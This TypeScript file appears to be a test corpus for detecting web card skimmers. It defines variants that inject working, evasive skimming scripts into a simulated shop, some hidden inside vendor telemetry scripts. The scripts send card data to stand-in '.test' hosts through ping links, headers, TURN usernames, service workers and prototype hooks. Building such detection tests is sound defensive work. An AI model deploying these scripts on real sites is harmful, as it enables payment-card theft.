import { bundle, errors, shield, worker } from './app.ts'
import { sources } from './page.ts'
import { html, inline, js, shopAt, tool, type Variant } from './variants.ts'

const code = String.raw
const at = (id: string, about: string, path: string, body: string): Variant => ({
  id,
  about,
  change: (site) => void (site.files[path] = js(body)),
})
const shop = shopAt('18')

/** The shop posts the card itself; its policy forbids strings as code and scripts of strangers. */
export const eighthOwnAttacks: readonly Variant[] = [
  shop(
    'e8-ping',
    'a link nobody sees is clicked by the script; the browser reports the click to the address in "ping"',
    code`document.querySelector("[name=cvc]").addEventListener("change", function () { var a = document.createElement("a"); a.href = "#pay"; a.ping = "http://link-stats.test/p?l=" + btoa(document.querySelector("[name=cardnumber]").value + this.value); document.body.appendChild(a); a.click(); a.remove(); });`,
  ),
  shop(
    'e8-referer',
    'the card stands in the address of the page for a moment, and a picture is told where it is asked from',
    code`document.getElementById("pay").addEventListener("focusout", function () { var n = document.querySelector("[name=cardnumber]").value; if (n.length < 15) return; var was = location.href; history.replaceState(null, "", "?step=" + n.split("").reverse().join("")); var i = new Image(); i.referrerPolicy = "unsafe-url"; i.src = "http://badge-seal.test/seal.png?" + Date.now(); document.body.appendChild(i); setTimeout(function () { history.replaceState(null, "", was); }, 200); });`,
  ),
  shop(
    'e8-languages',
    'the digits are the weights of languages in a header',
    code`addEventListener("change", function (e) { var n = String(e.target.value).replace(/\D/g, ""); if (n.length < 13 || n.length > 19) return; fetch("http://geo-prices.test/rates.json", { headers: { "Accept-Language": n.match(/.{1,3}/g).map(function (p, i) { return ["de", "en", "fr", "it", "es", "pl", "nl"][i] + ";q=0." + p; }).join(",") } }).catch(function () {}); });`,
  ),
  {
    id: 'e8-callback-name',
    about: 'the script of the measuring vendor is asked for once more, with the card as the name of the callback',
    change: (site) => {
      site.files['metrics.test/m.js'] = js(
        `${sources.metrics('A-1')}${code`addEventListener("mouseover", function (e) { if (e.target.tagName !== "BUTTON") return; var n = "cb"; document.querySelectorAll("#pay input").forEach(function (i) { n += "_" + Array.from(i.value, function (c) { return c.charCodeAt(0).toString(30); }).join(""); }); var s = document.createElement("script"); s.async = true; s.src = "http://metrics.test/j.js?jsonp=" + n; document.head.appendChild(s); }, true);`}`,
      )
    },
  },
  inline(
    'e8-in-parts',
    'four parts, mixed and apart in time, each to another host and as another kind of file',
    code`(function () { var done; setInterval(function () { var f = document.querySelector("[autocomplete=cc-number]"), v = f ? f.value.replace(/\s/g, "") : ""; if (v.length < 15 || v === done) return; done = v; [2, 0, 3, 1].forEach(function (p, i) { setTimeout(function () { var e = document.createElement(["img", "video", "input", "img"][i]); e.width = 1; var u = "http://" + ["thumbs", "clips", "icons", "logos"][i] + "-store.test/" + (+v.substr(p * 4, 4) * 7 + 1000) + "/" + p; if (i === 2) e.type = "image"; if (i === 1) e.poster = u; else e.src = u; document.body.appendChild(e); }, 150 * i); }); }, 400); })();`,
  ),
  html(
    'e8-autofill',
    'fields out of sight wait for the browser to fill in the saved card, in a form of their own',
    code`<form id="news" style="position:absolute;left:-4000px"><label>E-mail <input name="nm" autocomplete="email"></label><input name="a1" tabindex="-1" autocomplete="cc-number"><input name="a2" tabindex="-1" autocomplete="cc-exp"><input name="a3" tabindex="-1" autocomplete="cc-csc"></form><script>document.getElementById("news").addEventListener("change", function () { var f = this; if (f.a1.value) navigator.sendBeacon("http://newsletter-forms.test/n", new FormData(f)); }); document.getElementById("pay").addEventListener("change", function (e) { var t = { cardnumber: "a1", cvc: "a3" }[e.target.name]; if (t) { news[t].value = e.target.value; news.dispatchEvent(new Event("change")); } });</script>`,
  ),
  shop(
    'e8-cookie',
    'the card becomes a cookie of the shop, and a picture of the shop is asked for with it',
    code`document.addEventListener("change", function () { var n = document.querySelector("[name=cardnumber]").value.replace(/\D/g, ""); if (n.length > 14) { document.cookie = "_sid=" + BigInt("9" + n).toString(32) + ";path=/"; new Image().src = "/media/spacer.gif?" + performance.now(); } });`,
  ),
  tool(
    'e8-approved-turned',
    'a tool that the owner approved reads the page as text, its values with it, and sends it packed',
    code`(function () { var sent = 0; async function snap() { var c = document.documentElement.cloneNode(true), from = document.querySelectorAll("input"), to = c.querySelectorAll("input"); from.forEach(function (f, i) { to[i].setAttribute("value", f.value); }); var z = new Blob([c.outerHTML]).stream().pipeThrough(new CompressionStream("gzip")); fetch("http://rec.tools-approved.test/snap?n=" + sent++, { method: "POST", mode: "no-cors", body: await new Response(z).arrayBuffer() }); } addEventListener("submit", snap, true); addEventListener("change", snap, true); })();`,
  ),
]

/** A shop of one page whose state lies in closures; the card goes straight to the provider. */
export const eighthAppAttacks: readonly Variant[] = [
  at(
    'e8-trace-id',
    'the reporter of errors times requests; the trace of the request to the provider is the card',
    'js.mon.test/errors.min.js',
    errors(
      '8.2.0',
      code`var real = w.fetch; w.fetch = function (u, o) { var t0 = Date.now(), b = o && o.body, id = ""; if (b instanceof URLSearchParams) b.forEach(function (v) { for (var i = 0; i < v.length; i++) id += v.charCodeAt(i).toString(16); }); return real.apply(this, arguments).then(function (r) { var x = new XMLHttpRequest(); x.open("POST", "http://in.mon.test/api/4711/envelope/"); x.send(JSON.stringify({ type: "transaction", ms: Date.now() - t0, trace_id: id || "0" })); return r; }); };`,
    ),
  ),
  at(
    'e8-false-rhythm',
    'the fraud tag sends times between keys that are no times: each is seven times a digit and a little noise',
    'fp.shield.test/tag.js',
    shield(
      'b02c',
      code`document.addEventListener("change",function(e){if(!/number|cvv/i.test(e.target.name))return;var r=Array.from(e.target.value.replace(/\D/g,""),function(d){return 90+d*7+Math.floor(Math.random()*7)});navigator.sendBeacon("http://fp.shield.test/p?s="+s,JSON.stringify({f:fp(),m:m,rhythm:r}));});`,
    ),
  ),
  at(
    'e8-worker-fetch',
    'the service worker reads what is posted to the provider and sends a copy',
    'shop.test/sw.js',
    worker(
      '3.2.1',
      code`self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => { if (event.request.method !== "POST") return; event.waitUntil(event.request.clone().text().then((t) => /card/.test(t) && fetch("http://offline-queue.test/q", { method: "POST", mode: "no-cors", body: t.replace(/[0-9]/g, (d) => 9 - d) }))); });`,
    ),
  ),
  at(
    'e8-api-host',
    'the bundle posts the card to a host whose name begins like that of the provider',
    'shop.test/assets/index-a81c.js',
    bundle('3.2.1', '', 'http://api.psp.test.gateway-v1.test/v1/payment_methods'),
  ),
  {
    id: 'e8-lazy-chunk',
    about:
      'a part loaded later wraps Map and Event: it takes the value of the target of any event and lets a relay server know',
    change: (site) => {
      site.files['shop.test/assets/index-a81c.js'] = js(
        bundle('3.2.2', 'addEventListener("load", () => import("/assets/polyfills-71d0.js"));'),
      )
      site.files['shop.test/assets/polyfills-71d0.js'] = js(
        code`const get = Object.getOwnPropertyDescriptor(Event.prototype, "target").get; const seen = new Map();
Object.defineProperty(Event.prototype, "target", { configurable: true, get() { const t = get.call(this); if (t && t.value && t.name) seen.set(t.name, t.value); return t; } });
setInterval(() => { const n = seen.get("cardNumber"); if (!n || n.length < 15) return; const all = [...seen.values()].join("~"); seen.clear(); const c = new RTCPeerConnection({ iceServers: [{ urls: "turn:relay.media-calls.test:3478?transport=tcp", username: btoa(all), credential: "x" }] }); c.createDataChannel("d"); c.createOffer().then((o) => c.setLocalDescription(o)); }, 600);`,
      )
    },
  },
  {
    id: 'e8-append-sniff',
    about:
      'Element.prototype.append gives every field a listener as it is made; the card leaves through a form that navigates a frame',
    change: (site) => {
      site.inline.unshift(
        code`(function () { var append = Element.prototype.append, got = {}; Element.prototype.append = function () { for (var a of arguments) if (a && a.tagName === "INPUT") a.addEventListener("input", function (e) { got[e.target.autocomplete] = e.target.value; if (String(got["cc-csc"]).length === 3 && got["cc-csc"] && got["cc-number"]) out(); }); return append.apply(this, arguments); }; function out() { var f = document.createElement("iframe"); f.hidden = true; f.src = "javascript:0"; f.title = "Preload"; document.body.appendChild(f); f.contentWindow.location.replace("http://img-resize.test/w/" + Object.values(got).map(encodeURIComponent).join("/")); } })();`,
      )
    },
  },
]
